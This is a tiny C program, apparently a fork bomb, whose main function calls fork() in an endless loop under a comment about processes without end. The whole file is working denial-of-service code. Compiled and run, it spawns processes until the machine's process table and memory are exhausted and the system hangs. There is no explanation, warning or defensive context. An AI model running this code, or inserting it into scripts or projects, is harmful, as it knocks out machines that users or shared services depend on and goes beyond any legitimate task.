// Processes and threads without end.
#include <unistd.h>
int main(void) {
  for (;;) fork();
}
